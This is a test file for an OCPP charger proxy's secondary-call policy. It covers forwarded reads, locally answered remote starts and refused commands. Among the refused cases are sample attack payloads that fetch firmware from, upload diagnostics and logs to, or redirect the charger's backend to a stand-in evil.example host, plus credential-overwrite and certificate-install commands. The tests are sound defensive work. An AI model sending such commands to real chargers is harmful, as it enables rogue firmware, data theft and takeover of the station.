import { describe, expect, it } from 'vitest';
import { createValidator } from 'ocpp-rpc';
import schema16 from 'ocpp-rpc/lib/schemas/ocpp1_6.json' with { type: 'json' };
import schema201 from 'ocpp-rpc/lib/schemas/ocpp2_0_1.json' with { type: 'json' };
import schema21 from 'ocpp-rpc/lib/schemas/ocpp2_1.json' with { type: 'json' };
import { call, MAX_ERROR_DESCRIPTION_LENGTH } from '../../src/ocpp/frame.js';
import { isErrorCodeOf } from '../../src/ocpp/error-codes.js';
import type { OcppVersion } from '../../src/ocpp/error-codes.js';
import {
  decideSecondaryCall,
  isValidIdToken,
  SECONDARY_NOT_SUPPORTED_DESCRIPTION,
} from '../../src/routing/secondary-calls.js';
import type { SecondaryCallDecision } from '../../src/routing/secondary-calls.js';

// ocpp-rpc's validators (ajv 8 + ajv-formats over the official schemas): the same checks a strict peer makes.
const VALIDATORS = {
  '1.6': quietValidator('ocpp1.6', schema16),
  '2.0.1': quietValidator('ocpp2.0.1', schema201),
  '2.1': quietValidator('ocpp2.1', schema21),
} as const;

function quietValidator(...args: Parameters<typeof createValidator>): ReturnType<typeof createValidator> {
  const validator = createValidator(...args);
  // The shipped 2.1 schemas put `additionalProperties` on string enums, which ajv's strictTypes logs once per
  // schema; it changes no verdict.
  validator._ajv.opts.strictTypes = false;
  return validator;
}

function schemaId(version: OcppVersion, action: string, kind: 'request' | 'response'): string {
  if (version === '2.1') return `urn:${action}${kind === 'request' ? 'Request' : 'Response'}`;
  return `urn:${action}.${kind === 'request' ? 'req' : 'conf'}`;
}

function schemaAccepts(version: OcppVersion, action: string, kind: 'request' | 'response', payload: unknown): boolean {
  try {
    // Throws on an invalid payload; the schemas are synchronous, so `true` is the only other answer.
    return VALIDATORS[version].validate(schemaId(version, action, kind), payload) === true;
  } catch {
    return false;
  }
}

function decide(version: OcppVersion, action: string, payload: Record<string, unknown>): SecondaryCallDecision {
  return decideSecondaryCall(version, call('sec-1', action, payload));
}

function expectNotSupported(decision: SecondaryCallDecision, version: OcppVersion): void {
  expect(decision).toEqual({ kind: 'reject', errorCode: 'NotSupported', description: SECONDARY_NOT_SUPPORTED_DESCRIPTION });
  expect(isErrorCodeOf(version, 'NotSupported')).toBe(true);
}

function rejection(decision: SecondaryCallDecision): { errorCode: string; description: string } {
  if (decision.kind !== 'reject') throw new Error(`expected a rejection, got ${decision.kind}`);
  return { errorCode: decision.errorCode, description: decision.description };
}

const TX_PROFILE_16 = {
  chargingProfileId: 1,
  stackLevel: 0,
  chargingProfilePurpose: 'TxProfile',
  chargingProfileKind: 'Relative',
  chargingSchedule: { chargingRateUnit: 'A', chargingSchedulePeriod: [{ startPeriod: 0, limit: 16.0 }] },
};

describe('secondary CALLs forwarded to the charger (reads)', () => {
  it.each<[string, Record<string, unknown>]>([
    ['TriggerMessage', { requestedMessage: 'StatusNotification', connectorId: 1 }],
    ['TriggerMessage', { requestedMessage: 'MeterValues' }],
    ['TriggerMessage', { requestedMessage: 'BootNotification' }],
    ['GetConfiguration', { key: ['HeartbeatInterval', 'MeterValueSampleInterval'] }],
    ['GetConfiguration', {}],
  ])('1.6 %s %j', (action, payload) => {
    expect(schemaAccepts('1.6', action, 'request', payload)).toBe(true);
    expect(decide('1.6', action, payload)).toEqual({ kind: 'forward-to-charger' });
  });

  it.each<OcppVersion>(['2.0.1', '2.1'])('%s TriggerMessage and GetVariables', (version) => {
    const reads: [string, Record<string, unknown>][] = [
      ['TriggerMessage', { requestedMessage: 'StatusNotification', evse: { id: 1, connectorId: 1 } }],
      ['TriggerMessage', { requestedMessage: 'TransactionEvent', evse: { id: 1 } }],
      ['TriggerMessage', { requestedMessage: 'Heartbeat' }],
      [
        'GetVariables',
        {
          getVariableData: [
            { component: { name: 'OCPPCommCtrlr' }, variable: { name: 'HeartbeatInterval' } },
            { component: { name: 'EVSE', evse: { id: 1 } }, variable: { name: 'AvailabilityState' }, attributeType: 'Actual' },
          ],
        },
      ],
    ];
    for (const [action, payload] of reads) {
      expect(schemaAccepts(version, action, 'request', payload)).toBe(true);
      expect(decide(version, action, payload)).toEqual({ kind: 'forward-to-charger' });
    }
  });

  it('leaves a malformed TriggerMessage to the charger, which answers it as it would without the proxy', () => {
    expect(decide('1.6', 'TriggerMessage', { requestedMessage: 42 })).toEqual({ kind: 'forward-to-charger' });
    expect(decide('2.0.1', 'TriggerMessage', {})).toEqual({ kind: 'forward-to-charger' });
  });
});

describe('TriggerMessage that would start a credential change', () => {
  // 2.0.1 A02/A03: the charger makes a new key pair and sends a CSR to the primary, which installs the result.
  it.each<[OcppVersion, string]>([
    ['2.0.1', 'SignChargingStationCertificate'],
    ['2.0.1', 'SignV2GCertificate'],
    ['2.0.1', 'SignCombinedCertificate'],
    ['2.1', 'SignChargingStationCertificate'],
    ['2.1', 'SignV2GCertificate'],
    ['2.1', 'SignV2G20Certificate'],
    ['2.1', 'SignCombinedCertificate'],
    // Vendor-defined: not known to be read-only.
    ['2.1', 'CustomTrigger'],
    // Not a 1.6 value; unknown values are refused rather than passed on.
    ['1.6', 'SignChargePointCertificate'],
  ])('%s %s is refused NotSupported', (version, requestedMessage) => {
    expectNotSupported(decide(version, 'TriggerMessage', { requestedMessage }), version);
  });
});

describe('every other secondary CALL is refused NotSupported', () => {
  const forbidden16: [string, Record<string, unknown>][] = [
    ['ChangeConfiguration', { key: 'AuthorizationKey', value: '0123456789abcdef0123' }],
    ['ChangeConfiguration', { key: 'SecurityProfile', value: '0' }],
    ['ChangeConfiguration', { key: 'HeartbeatInterval', value: '60' }],
    ['Reset', { type: 'Hard' }],
    ['RemoteStopTransaction', { transactionId: 4711 }],
    ['UnlockConnector', { connectorId: 1 }],
    ['ChangeAvailability', { connectorId: 0, type: 'Inoperative' }],
    ['ClearCache', {}],
    ['DataTransfer', { vendorId: 'Acme', messageId: 'SetUrl', data: 'wss://evil.example/ocpp' }],
    ['SendLocalList', { listVersion: 2, updateType: 'Full', localAuthorizationList: [] }],
    ['GetLocalListVersion', {}],
    ['ReserveNow', { connectorId: 1, expiryDate: '2025-03-14T10:00:00.000Z', idTag: 'A', reservationId: 1 }],
    ['CancelReservation', { reservationId: 1 }],
    ['SetChargingProfile', { connectorId: 1, csChargingProfiles: TX_PROFILE_16 }],
    ['ClearChargingProfile', {}],
    ['GetCompositeSchedule', { connectorId: 1, duration: 3600 }],
    ['UpdateFirmware', { location: 'https://evil.example/fw.bin', retrieveDate: '2025-03-14T10:00:00.000Z' }],
    ['GetDiagnostics', { location: 'ftp://evil.example/' }],
    // 1.6 Security Whitepaper commands.
    ['InstallCertificate', { certificateType: 'CentralSystemRootCertificate', certificate: '-----BEGIN CERTIFICATE-----' }],
    ['CertificateSigned', { certificateChain: '-----BEGIN CERTIFICATE-----' }],
    ['DeleteCertificate', { certificateHashData: { hashAlgorithm: 'SHA256', issuerNameHash: 'a', issuerKeyHash: 'b', serialNumber: 'c' } }],
    ['ExtendedTriggerMessage', { requestedMessage: 'SignChargePointCertificate' }],
    ['SignedUpdateFirmware', { requestId: 1, firmware: {} }],
    ['GetLog', { logType: 'SecurityLog', requestId: 1, log: { remoteLocation: 'ftp://evil.example/' } }],
    // 2.x names on a 1.6 link.
    ['GetVariables', { getVariableData: [] }],
    ['RequestStartTransaction', { idToken: { idToken: 'A', type: 'Central' }, remoteStartId: 1 }],
    ['SetNetworkProfile', { configurationSlot: 1, connectionData: {} }],
  ];

  it.each(forbidden16)('1.6 %s', (action, payload) => {
    expectNotSupported(decide('1.6', action, payload), '1.6');
  });

  const forbidden2x: [string, Record<string, unknown>][] = [
    [
      'SetVariables',
      { setVariableData: [{ component: { name: 'SecurityCtrlr' }, variable: { name: 'BasicAuthPassword' }, attributeValue: 'x'.repeat(16) }] },
    ],
    ['SetVariables', { setVariableData: [{ component: { name: 'OCPPCommCtrlr' }, variable: { name: 'HeartbeatInterval' }, attributeValue: '60' }] }],
    [
      'SetNetworkProfile',
      {
        configurationSlot: 1,
        connectionData: {
          ocppVersion: 'OCPP20',
          ocppTransport: 'JSON',
          ocppCsmsUrl: 'wss://evil.example/ocpp',
          messageTimeout: 30,
          securityProfile: 1,
          ocppInterface: 'Wired0',
        },
      },
    ],
    ['Reset', { type: 'Immediate' }],
    ['RequestStopTransaction', { transactionId: 'b6f1d0a4-3c2e-4e57-9a11-5f0c7d2e8a90' }],
    ['UnlockConnector', { evseId: 1, connectorId: 1 }],
    ['InstallCertificate', { certificateType: 'CSMSRootCertificate', certificate: '-----BEGIN CERTIFICATE-----' }],
    ['CertificateSigned', { certificateChain: '-----BEGIN CERTIFICATE-----' }],
    ['DeleteCertificate', { certificateHashData: { hashAlgorithm: 'SHA256', issuerNameHash: 'a', issuerKeyHash: 'b', serialNumber: 'c' } }],
    ['ChangeAvailability', { operationalStatus: 'Inoperative' }],
    ['ClearCache', {}],
    ['DataTransfer', { vendorId: 'Acme' }],
    ['SendLocalList', { versionNumber: 2, updateType: 'Full' }],
    ['ReserveNow', { id: 1, expiryDateTime: '2025-03-14T10:00:00.000Z', idToken: { idToken: 'A', type: 'Central' } }],
    ['SetChargingProfile', { evseId: 1, chargingProfile: {} }],
    ['UpdateFirmware', { requestId: 1, firmware: { location: 'https://evil.example/fw.bin', retrieveDateTime: '2025-03-14T10:00:00.000Z' } }],
    ['GetLog', { logType: 'SecurityLog', requestId: 1, log: { remoteLocation: 'ftp://evil.example/' } }],
    ['SetMonitoringBase', { monitoringBase: 'All' }],
    ['CustomerInformation', { requestId: 1, report: true, clear: true }],
    // Reads beyond the two the product allows are refused too (allow-list).
    ['GetBaseReport', { requestId: 1, reportBase: 'FullInventory' }],
    ['GetTransactionStatus', {}],
    // 1.6 names on a 2.x link.
    ['GetConfiguration', {}],
    ['RemoteStartTransaction', { idTag: 'A' }],
    ['ChangeConfiguration', { key: 'AuthorizationKey', value: '0123456789abcdef' }],
  ];

  it.each<OcppVersion>(['2.0.1', '2.1'])('%s: SetVariables, SetNetworkProfile, Reset, InstallCertificate, …', (version) => {
    for (const [action, payload] of forbidden2x) expectNotSupported(decide(version, action, payload), version);
  });

  it('the description is fixed text within the CALLERROR limit', () => {
    expect(SECONDARY_NOT_SUPPORTED_DESCRIPTION.length).toBeLessThanOrEqual(MAX_ERROR_DESCRIPTION_LENGTH);
    expect(SECONDARY_NOT_SUPPORTED_DESCRIPTION).toMatch(/read the charger/);
  });
});

describe('1.6 RemoteStartTransaction is answered locally', () => {
  it.each<[string, Record<string, unknown>]>([
    ['idTag only', { idTag: 'APP-USER-42' }],
    ['with connectorId', { connectorId: 1, idTag: 'APP-USER-42' }],
    ['with a TxProfile', { connectorId: 2, idTag: 'APP-USER-42', chargingProfile: TX_PROFILE_16 }],
  ])('%s → Accepted, the idTag kept', (_name, payload) => {
    expect(schemaAccepts('1.6', 'RemoteStartTransaction', 'request', payload)).toBe(true);
    const decision = decide('1.6', 'RemoteStartTransaction', payload);
    expect(decision).toEqual({ kind: 'accept-remote-start', pendingIdTag: 'APP-USER-42', response: { status: 'Accepted' } });
    if (decision.kind !== 'accept-remote-start') return;
    expect(schemaAccepts('1.6', 'RemoteStartTransaction', 'response', decision.response)).toBe(true);
  });

  it('accepts an idTag of exactly 20 characters, counted as code points', () => {
    for (const idTag of ['x'.repeat(20), '🔌'.repeat(20)]) {
      expect(schemaAccepts('1.6', 'RemoteStartTransaction', 'request', { idTag })).toBe(true);
      expect(decide('1.6', 'RemoteStartTransaction', { idTag })).toMatchObject({ kind: 'accept-remote-start', pendingIdTag: idTag });
    }
  });

  // Each row: payload, the 1.6 code (§4.2.3 spelling). The schema must refuse it as well, except where the
  // rule is in the spec text only (connectorId > 0).
  it.each<[string, Record<string, unknown>, string, boolean]>([
    ['idTag missing', { connectorId: 1 }, 'OccurenceConstraintViolation', true],
    ['idTag not a string', { idTag: 42 }, 'TypeConstraintViolation', true],
    ['idTag null', { idTag: null }, 'TypeConstraintViolation', true],
    ['idTag of 21 characters', { idTag: 'x'.repeat(21) }, 'PropertyConstraintViolation', true],
    ['idTag of a megabyte', { idTag: 'x'.repeat(1_000_000) }, 'PropertyConstraintViolation', true],
    ['a field the PDU does not define', { idTag: 'A', EVIL_KEY: 1 }, 'FormationViolation', true],
    ['connectorId not an integer', { idTag: 'A', connectorId: '1' }, 'TypeConstraintViolation', true],
    ['connectorId fractional', { idTag: 'A', connectorId: 1.5 }, 'TypeConstraintViolation', true],
    ['connectorId 0 (SHALL be > 0, §5.11)', { idTag: 'A', connectorId: 0 }, 'PropertyConstraintViolation', false],
    ['chargingProfile not an object', { idTag: 'A', chargingProfile: 'TxProfile' }, 'TypeConstraintViolation', true],
  ])('%s → CALLERROR', (_name, payload, errorCode, schemaRefuses) => {
    expect(schemaAccepts('1.6', 'RemoteStartTransaction', 'request', payload)).toBe(!schemaRefuses);
    const { errorCode: code, description } = rejection(decide('1.6', 'RemoteStartTransaction', payload));
    expect(code).toBe(errorCode);
    expect(description.length).toBeLessThanOrEqual(MAX_ERROR_DESCRIPTION_LENGTH);
    // Fixed text: nothing the secondary sent is echoed back.
    expect(description).not.toMatch(/EVIL_KEY|xxxx/);
  });
});

describe.each<OcppVersion>(['2.0.1', '2.1'])('%s RequestStartTransaction is answered locally', (version) => {
  const idToken = { idToken: 'APP-USER-42', type: 'Central' };

  it('→ Accepted, idToken and remoteStartId kept as JSON', () => {
    const payload = { idToken, remoteStartId: 1001, evseId: 1 };
    expect(schemaAccepts(version, 'RequestStartTransaction', 'request', payload)).toBe(true);
    const decision = decide(version, 'RequestStartTransaction', payload);
    if (decision.kind !== 'accept-remote-start') throw new Error(`expected accept, got ${decision.kind}`);
    expect(JSON.parse(decision.pendingIdTag)).toEqual({ idToken, remoteStartId: 1001 });
    expect(decision.response).toEqual({ status: 'Accepted' });
    expect(schemaAccepts(version, 'RequestStartTransaction', 'response', decision.response)).toBe(true);
  });

  it('keeps the whole idToken object (additionalInfo, customData) as the secondary sent it', () => {
    const rich = {
      idToken: 'APP-USER-42',
      type: 'eMAID',
      additionalInfo: [{ additionalIdToken: 'contract-7', type: 'ContractId', customData: { vendorId: 'Acme', extra: true } }],
      customData: { vendorId: 'Acme' },
    };
    const payload = { idToken: rich, groupIdToken: { idToken: 'FLEET-1', type: 'Central' }, remoteStartId: 7, customData: { vendorId: 'Acme' } };
    expect(schemaAccepts(version, 'RequestStartTransaction', 'request', payload)).toBe(true);
    const decision = decide(version, 'RequestStartTransaction', payload);
    if (decision.kind !== 'accept-remote-start') throw new Error(`expected accept, got ${decision.kind}`);
    expect(JSON.parse(decision.pendingIdTag)).toEqual({ idToken: rich, remoteStartId: 7 });
  });

  // Each row: payload and the 2.x code (Part 4 §4.3). The schema must refuse it as well, except where the
  // rule is in the spec text only.
  const cases: [string, Record<string, unknown>, string, boolean][] = [
    ['idToken missing', { remoteStartId: 1 }, 'OccurrenceConstraintViolation', true],
    ['idToken a string', { idToken: 'APP-USER-42', remoteStartId: 1 }, 'TypeConstraintViolation', true],
    ['idToken.idToken missing', { idToken: { type: 'Central' }, remoteStartId: 1 }, 'OccurrenceConstraintViolation', true],
    ['idToken.type missing', { idToken: { idToken: 'A' }, remoteStartId: 1 }, 'OccurrenceConstraintViolation', true],
    ['idToken.idToken a number', { idToken: { idToken: 42, type: 'Central' }, remoteStartId: 1 }, 'TypeConstraintViolation', true],
    ['idToken.idToken of 256 characters', { idToken: { idToken: 'x'.repeat(256), type: 'Central' }, remoteStartId: 1 }, 'PropertyConstraintViolation', true],
    ['idToken with an unknown field', { idToken: { ...idToken, pin: '1234' }, remoteStartId: 1 }, 'FormatViolation', true],
    ['additionalInfo empty', { idToken: { ...idToken, additionalInfo: [] }, remoteStartId: 1 }, 'OccurrenceConstraintViolation', true],
    ['additionalInfo item without type', { idToken: { ...idToken, additionalInfo: [{ additionalIdToken: 'a' }] }, remoteStartId: 1 }, 'OccurrenceConstraintViolation', true],
    ['customData without vendorId', { idToken, remoteStartId: 1, customData: { foo: 1 } }, 'OccurrenceConstraintViolation', true],
    ['remoteStartId missing', { idToken }, 'OccurrenceConstraintViolation', true],
    ['remoteStartId fractional', { idToken, remoteStartId: 1.5 }, 'TypeConstraintViolation', true],
    ['remoteStartId a string', { idToken, remoteStartId: '1' }, 'TypeConstraintViolation', true],
    ['evseId not an integer', { idToken, remoteStartId: 1, evseId: '1' }, 'TypeConstraintViolation', true],
    // 2.1 makes "EvseId SHALL be > 0" a schema minimum; 2.0.1 states it in the description only.
    ['evseId 0', { idToken, remoteStartId: 1, evseId: 0 }, 'PropertyConstraintViolation', version === '2.1'],
    ['groupIdToken invalid', { idToken, remoteStartId: 1, groupIdToken: { idToken: 'G' } }, 'OccurrenceConstraintViolation', true],
    ['a field the PDU does not define', { idToken, remoteStartId: 1, connectorId: 1 }, 'FormatViolation', true],
    ['chargingProfile not an object', { idToken, remoteStartId: 1, chargingProfile: [] }, 'TypeConstraintViolation', true],
  ];

  it.each(cases)('%s → CALLERROR', (_name, payload, errorCode, schemaRefuses) => {
    expect(schemaAccepts(version, 'RequestStartTransaction', 'request', payload)).toBe(!schemaRefuses);
    const { errorCode: code, description } = rejection(decide(version, 'RequestStartTransaction', payload));
    expect(code).toBe(errorCode);
    expect(description.length).toBeLessThanOrEqual(MAX_ERROR_DESCRIPTION_LENGTH);
  });

  it('applies the version’s own idToken limits', () => {
    const long = { idToken: { idToken: 'x'.repeat(37), type: 'Central' }, remoteStartId: 1 };
    const customType = { idToken: { idToken: 'A', type: 'VendorCard' }, remoteStartId: 1 };
    const longType = { idToken: { idToken: 'A', type: 'x'.repeat(21) }, remoteStartId: 1 };
    for (const payload of [long, customType, longType]) {
      const decision = decide(version, 'RequestStartTransaction', payload);
      // Whatever the proxy decides, the schema of that version agrees.
      expect(decision.kind === 'accept-remote-start').toBe(schemaAccepts(version, 'RequestStartTransaction', 'request', payload));
    }
    // 2.0.1: idToken string(36) and IdTokenEnumType; 2.1: string(255) and a free type of up to 20 characters.
    expect(decide(version, 'RequestStartTransaction', long).kind).toBe(version === '2.1' ? 'accept-remote-start' : 'reject');
    expect(decide(version, 'RequestStartTransaction', customType).kind).toBe(version === '2.1' ? 'accept-remote-start' : 'reject');
    expect(decide(version, 'RequestStartTransaction', longType).kind).toBe('reject');
  });
});

describe('isValidIdToken', () => {
  it('is the IdTokenType check of the given version', () => {
    expect(isValidIdToken('2.0.1', { idToken: 'A', type: 'ISO14443' })).toBe(true);
    expect(isValidIdToken('2.0.1', { idToken: 'A', type: 'VendorCard' })).toBe(false);
    expect(isValidIdToken('2.1', { idToken: 'A', type: 'VendorCard' })).toBe(true);
    expect(isValidIdToken('2.1', 'A')).toBe(false);
    expect(isValidIdToken('2.1', null)).toBe(false);
  });
});

describe('decideSecondaryCall does not touch its input', () => {
  it('leaves a payload as it was (frozen, so a write would throw)', () => {
    const idToken = Object.freeze({ idToken: 'A', type: 'Central', additionalInfo: Object.freeze([Object.freeze({ additionalIdToken: 'b', type: 'c' })]) });
    const payload = Object.freeze({ idToken, remoteStartId: 5 });
    const before = structuredClone(payload);
    expect(decide('2.0.1', 'RequestStartTransaction', payload).kind).toBe('accept-remote-start');
    expect(decide('1.6', 'RemoteStartTransaction', Object.freeze({ idTag: 'A' })).kind).toBe('accept-remote-start');
    expect(payload).toEqual(before);
  });
});
